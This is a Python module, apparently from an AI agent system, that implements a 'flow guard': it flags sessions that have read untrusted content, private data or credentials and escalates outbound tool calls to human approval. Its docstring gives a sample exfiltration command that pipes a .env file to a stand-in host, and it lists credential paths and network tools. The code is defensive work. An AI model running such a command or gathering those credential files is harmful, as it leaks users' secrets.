"""Flow guard: classify tool calls by what they read and whether they send data out.

Pure: no I/O, no database, no daemon state. Sources: FACTS.md §9 "Flow guard" and seed 003
("The flow guard runs on top of these rules ..."); the contracts below extend the FACTS table
with heuristics, each marked where it is defined.

**What is tracked.** A session carries three flags (:class:`FlowFlag`); once set, a flag stays
set (FACTS.md §9):

* ``suspicious``: the session has read text written by people outside the user's control
  (web fetch and search, mail, chat, issue trackers, external MCP connector results);
* ``private``: it has read the user's own data (mail, chat, drive, documents, calendar);
* ``secret``: it has read credential material (``.env``, ``~/.ssh/id_*``, ``~/.aws``, private
  keys, ``.netrc``, ``/proc/*/environ``, a dump of the environment, ...).

**When it asks** (FACTS.md §9 "When it asks"). A call becomes an approval when

1. ``secret`` is set and the call is any egress (read or write), or
2. ``private`` and ``suspicious`` are both set and the call is a write egress.

The call's own reads count, so ``cat .env | curl -d @- https://x`` asks at once.

**Egress.** *Read* egress means only a URL or query leaves (web fetch and search, ``curl URL``,
``git fetch``, ``pip install``). *Write* egress sends data out (mail or message send,
``git push``, ``curl -d``, ``scp`` to a remote, ``ssh``, ``nc``, non-read MCP tools).

**Use.** One :class:`FlowState` per session (children share their root's session)::

    c = classify(tool_id, arguments)
    if mode is FlowGuardMode.ASK and decision is ALLOW:   # never applied to DENY (or ASK)
        reason = state.check(c)      # pure; None = leave the ALLOW alone
        if reason: ASK with reason; an unattended run is refused with unattended_refusal(reason)
    ...
    if state.observe(c):             # after the call ran, or was seen in the vendor's stream
        store sessions.flow_label = state.to_label()

The guard only ever turns ALLOW into ASK; it never relaxes anything. Vault placeholders
(``{{secret:NAME}}``) never set a flag (nothing here treats them as credentials); the vault
exemption (FACTS.md §9 "Vault"; never for ``cli-native:*`` tools) is the caller's decision.
A group-channel session starts ``suspicious``: ``FlowState(flags={FlowFlag.SUSPICIOUS})``.

**The shell sandbox's network.** While the shell sandbox is in force (``security.shellSandbox``
with a working runner), Octipus's shell commands have no network unless a call sets
``network: true``; such a call is a write egress whatever its command says (``sandboxed_shell``
of :func:`classify`), so a session that has read credentials needs a person for it. A run's
``host_services`` also shares the network; its commands are judged by their text, as with the
sandbox off.

**Tool ids.** ``cli-native:<Tool>`` (Claude's Read, Grep, Glob, NotebookRead, WebFetch,
WebSearch, Bash, ...; Codex's shell appears as ``cli-native:Bash`` and its web search as
``cli-native:WebSearch``; any other native tool with a ``command``/``cmd`` argument is treated
as a shell), ``cli-native:mcp__<server>__<tool>`` (Claude's name for an MCP tool;
``mcp__octipus__<tool>`` is Octipus's own tool), Octipus tools ``<family>__<action>``
(``shell__run``) and MCP connector tools ``<server>.<tool>`` (``slack.post_message``).

**Limits.** Contracts judge a call and its arguments, never what the tool returns. Shell
commands are parsed, not run: interpreters (``python -c``, ``node -e``), scripts and aliases
are opaque; variable expansion (``echo $TOKEN``) is not tracked; ``bash -c``/``sh -c``/``eval``,
``$(...)``/backticks and a heredoc fed to a shell are parsed recursively up to
:data:`MAX_SHELL_NESTING` levels; ``$(...)`` inside double quotes counts, inside single
quotes it does not.

**Modules.** The shell parsing (splitting, wrappers, nesting) is :mod:`octipusd.policy.shellwords`,
shared with the shell guard; the tables (credential paths, tool and connector names, command
options and subcommands) are :mod:`octipusd.policy.flowguard_tables`; the classification of a
call, its accumulator and the credential paths are :mod:`octipusd.policy.flowguard_evidence`;
the shell command contracts are :mod:`octipusd.policy.flowguard_shell`. This module holds the
classification of tools by id and name, and the session state, and re-exports
:class:`FlowFlag`, :class:`Egress`, :class:`Classification`, :func:`is_credential_path` and
:data:`MAX_SHELL_NESTING`.
"""

from __future__ import annotations

import enum
import re
import shlex
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from octipusd.policy import flowguard_tables as tables
from octipusd.policy.flowguard_evidence import Classification, Findings, is_credential_path
from octipusd.policy.flowguard_shell import MAX_SHELL_NESTING, analyze_shell
from octipusd.policy.flowguard_tables import Egress, FlowFlag
from octipusd.policy.rules import CLI_NATIVE_PREFIX

__all__ = [
    "MAX_SHELL_NESTING",
    "REASON_PREFIX",
    "UNATTENDED_PREFIX",
    "Classification",
    "Egress",
    "FlowFlag",
    "FlowGuardMode",
    "FlowState",
    "classify",
    "from_label",
    "is_credential_path",
    "to_label",
    "unattended_refusal",
]

#: Every escalation reason starts with this (FACTS.md §9 "Outcome").
REASON_PREFIX: Final = "flow guard: "
#: An unattended run's refusal line starts with this (FACTS.md §9 "Outcome").
UNATTENDED_PREFIX: Final = "Approval required: "


class FlowGuardMode(enum.StrEnum):
    """The ``agent.flowGuard`` setting (env ``AGENT_FLOW_GUARD``; FACTS.md §9); ``ask`` is the default."""

    ASK = "ask"
    OFF = "off"


_FLAG_VALUES: Final = frozenset(flag.value for flag in FlowFlag)
_FLAG_ADJECTIVE: Final[Mapping[FlowFlag, str]] = {
    FlowFlag.PRIVATE: "private",
    FlowFlag.SUSPICIOUS: "untrusted",
    FlowFlag.SECRET: "credentials",
}


# ------------------------------------------------------------------------ the session state


@dataclass
class FlowState:
    """The flow-guard label of one session, plus where each flag came from.

    Attributes:
        flags: The flags set so far; only :meth:`observe` adds to it, nothing removes.
        sources: What first set each flag (in memory only: a state restored with
            :meth:`from_label` has none, and its reasons then omit the detail).
    """

    flags: set[FlowFlag] = field(default_factory=set)
    sources: dict[FlowFlag, str] = field(default_factory=dict)

    @classmethod
    def from_label(cls, text: str | None) -> FlowState:
        """Restore a state from ``sessions.flow_label`` (see the module's :func:`from_label`)."""
        return cls(flags=from_label(text))

    def to_label(self) -> str:
        """Return the ``sessions.flow_label`` text of this state (see the module's :func:`to_label`)."""
        return to_label(self.flags)

    def observe(self, classification: Classification) -> set[FlowFlag]:
        """Add the flags a call set; call it after the call ran (or was seen in a vendor stream).

        Args:
            classification: The call's :func:`classify` result.

        Returns:
            The flags that were not set before (empty when nothing changed, so the caller
            persists the label only when this is non-empty).
        """
        gained = set(classification.flags) - self.flags
        self.flags |= gained
        for flag in gained:
            source = classification.source(flag)
            if source:
                self.sources.setdefault(flag, source)
        return gained

    def check(self, classification: Classification) -> str | None:
        """Return why this call must become an approval, or None; never changes the state.

        Rules (FACTS.md §9 "When it asks"), judged on the session's flags plus the flags this
        call sets itself: (1) ``secret`` and any egress; (2) ``private`` and ``suspicious`` and
        a write egress. The caller applies the result only to an ALLOW decision: the guard
        turns ALLOW into ASK, never changes a DENY, and never relaxes anything.

        Args:
            classification: The call's :func:`classify` result.

        Returns:
            A reason starting with :data:`REASON_PREFIX`, e.g. ``"flow guard: this session has
            read credentials (.env), and cli-native:WebFetch can send data out in a URL or
            query"``; None when the call may go ahead.
        """
        egress = classification.egress
        if egress is Egress.NONE:
            return None
        flags = self.flags | classification.flags
        tool = classification.tool_id or "this call"
        sends = "sends data out" if egress is Egress.WRITE else "can send data out in a URL or query"
        if FlowFlag.SECRET in flags:
            what = self._source(FlowFlag.SECRET, classification)
            return f"{REASON_PREFIX}this session has read credentials{what}, and {tool} {sends}"
        if egress is Egress.WRITE and {FlowFlag.PRIVATE, FlowFlag.SUSPICIOUS} <= flags:
            private = self._source(FlowFlag.PRIVATE, classification)
            untrusted = self._source(FlowFlag.SUSPICIOUS, classification)
            return (
                f"{REASON_PREFIX}this session has mixed private data{private} with untrusted "
                f"content{untrusted}, and {tool} {sends}"
            )
        return None

    def _source(self, flag: FlowFlag, classification: Classification) -> str:
        source = self.sources.get(flag) or classification.source(flag)
        return f" ({source})" if source else ""


def to_label(flags: Iterable[FlowFlag]) -> str:
    """Return the ``sessions.flow_label`` text: flag values sorted and comma-separated.

    Args:
        flags: Any iterable of flags (duplicates are fine).

    Returns:
        E.g. ``"private,secret"``; ``""`` for no flags.
    """
    return ",".join(sorted({FlowFlag(flag).value for flag in flags}))


def from_label(text: str | None) -> set[FlowFlag]:
    """Parse a ``sessions.flow_label`` text (the inverse of :func:`to_label`).

    Args:
        text: Comma-separated flag values; surrounding spaces and case are ignored, and so
            are unknown words; None or ``""`` is no flags.

    Returns:
        The set of flags named.
    """
    flags: set[FlowFlag] = set()
    for word in (text or "").split(","):
        value = word.strip().lower()
        if value in _FLAG_VALUES:
            flags.add(FlowFlag(value))
    return flags


def unattended_refusal(reason: str) -> str:
    """Return the line an unattended run gets instead of an approval (FACTS.md §9 "Outcome").

    Args:
        reason: A :meth:`FlowState.check` reason (``"flow guard: ..."``).

    Returns:
        ``"Approval required: " + reason``.
    """
    return UNATTENDED_PREFIX + reason


# ------------------------------------------------------------------------ classify


def classify(
    tool_id: str, arguments: Mapping[str, Any] | None, *, sandboxed_shell: bool = False
) -> Classification:
    """Return the static contract of one call (FACTS.md §9 "Classification examples").

    Args:
        tool_id: ``cli-native:<Tool>``, ``cli-native:mcp__<server>__<tool>``, an Octipus tool id
            ``<family>__<action>`` or an MCP connector tool ``<server>.<tool>``.
        arguments: The call's arguments (``{"command": ...}`` for shells, ``{"file_path": ...}``
            for Read, ...); None or a non-mapping counts as empty.
        sandboxed_shell: The shell sandbox is in force: an Octipus shell call with
            ``network: true`` is a write egress (see the module docstring).

    Returns:
        The flags the call sets, its egress and the reasons. A tool nothing here recognises
        classifies as nothing when it is Octipus's own, and, when it is an external MCP
        connector, as untrusted with a write egress unless its name reads (``get``, ``list``,
        ``search``, ``read``, ...).
    """
    found = Findings()
    args: Mapping[str, Any] = arguments if isinstance(arguments, Mapping) else {}
    if tool_id.startswith(CLI_NATIVE_PREFIX):
        _classify_native(tool_id, tool_id.removeprefix(CLI_NATIVE_PREFIX), args, found)
    else:
        _classify_named(tool_id, tool_id, args, found)
        family = tool_id.partition("__")[0]
        if sandboxed_shell and family in tables.SHELL_FAMILIES and args.get("network") is True:
            found.send(Egress.WRITE, f"{tool_id} asks for the network (network: true) from the shell sandbox")
    return found.result(tool_id)


def _classify_native(tool_id: str, name: str, args: Mapping[str, Any], found: Findings) -> None:
    if name.startswith("mcp__"):
        _classify_named(tool_id, name, args, found)
    elif name in tables.NATIVE_WEB:
        found.taint(FlowFlag.SUSPICIOUS, tool_id, f"{tool_id} reads web content (untrusted)")
        found.send(Egress.READ, f"{tool_id} sends a URL or query out")
    elif name in tables.NATIVE_PATH_ARGS:
        for key in tables.NATIVE_PATH_ARGS[name]:
            _check_path(tool_id, args.get(key), found)
    elif name not in tables.NATIVE_NOT_SHELL:
        command = _command_text(args)
        if command is not None:
            analyze_shell(command, found)


def _classify_named(tool_id: str, name: str, args: Mapping[str, Any], found: Findings) -> None:
    """Classify an Octipus tool (``family__action``) or an MCP tool (``server.tool``, ``mcp__s__t``)."""
    if name.startswith("mcp__"):
        server, _, tool = name.removeprefix("mcp__").partition("__")
        if server == tables.OCTIPUS_SERVER:
            _classify_named(tool_id, tool, args, found)
        else:
            _classify_connector(tool_id, server, tool, args, found, external=True)
    elif "." in name:
        server, _, tool = name.partition(".")
        _classify_connector(tool_id, server, tool, args, found, external=True)
    else:
        family, _, action = name.partition("__")
        command = _command_text(args)
        if family in tables.SHELL_FAMILIES and command is not None:
            analyze_shell(command, found)
        else:
            _classify_connector(tool_id, family, action, args, found, external=False)


def _check_path(tool_id: str, value: Any, found: Findings) -> None:
    values = value if isinstance(value, list | tuple) else [value]
    for item in values:
        if isinstance(item, str) and is_credential_path(item):
            path = item.strip()
            found.taint(FlowFlag.SECRET, path, f"{tool_id} reads {path} (credentials)")


def _command_text(args: Mapping[str, Any]) -> str | None:
    command = args.get("command", args.get("cmd"))
    if isinstance(command, str):
        return command
    if isinstance(command, list | tuple) and command and all(isinstance(word, str) for word in command):
        return shlex.join(command)  # Codex: ["bash", "-lc", "..."]
    return None


# -------------------------------------------------------------- connectors (by name)


def _words(name: str) -> tuple[str, ...]:
    """Split ``getEmails``, ``email_read``, ``google-workspace`` into lower-case words."""
    spaced = re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", name)
    return tuple(word for word in re.split(r"[^A-Za-z0-9]+", spaced.lower()) if word)


def _category(words: Iterable[str], *, namespace: bool) -> tables.Category | None:
    present = set(words)
    for category in tables.CATEGORIES:
        if category.words & present or (namespace and category.namespace_words & present):
            return category
    return None


def _has_web_url(args: Mapping[str, Any]) -> bool:
    for key in tables.URL_ARGS:
        value = args.get(key)
        if isinstance(value, str) and value.lower().startswith(("http://", "https://")):
            return True
    return False


def _classify_connector(
    tool_id: str, namespace: str, action: str, args: Mapping[str, Any], found: Findings, *, external: bool
) -> None:
    """Classify a non-shell tool by the words of its name (and a URL argument)."""
    namespace_words, action_words = _words(namespace), _words(action)
    verbs = set(action_words or namespace_words)
    reading = bool(verbs & tables.READ_VERBS) and not verbs & tables.WRITE_VERBS
    category = (
        _category(namespace_words, namespace=True)
        or _category(action_words, namespace=False)
        or (tables.WEB if _has_web_url(args) else None)
    )
    if category is not None:
        flags = category.read_flags if reading else category.write_flags
        egress = category.read_egress if reading else Egress.WRITE
        detail = ", ".join(_FLAG_ADJECTIVE[flag] for flag in _FLAG_ADJECTIVE if flag in flags)
        for flag in flags:
            found.taint(flag, tool_id, f"{tool_id} reads {category.what} ({detail})")
        if egress is Egress.READ:
            found.send(egress, f"{tool_id} sends a URL or query out")
        elif egress is Egress.WRITE:
            found.send(egress, f"{tool_id} sends data out")
    if reading:
        for key in tables.PATH_ARGS:
            _check_path(tool_id, args.get(key), found)
    if external and not (category is not None and category.private_store):
        # FLOW-GUARD.md: external MCP results are untrusted; non-read MCP tools are write egress.
        if FlowFlag.SUSPICIOUS not in found.flags:
            found.taint(
                FlowFlag.SUSPICIOUS, tool_id, f"{tool_id} returns an external connector's result (untrusted)"
            )
        if category is None and not reading:
            found.send(Egress.WRITE, f"{tool_id} may change or send data (not a read)")
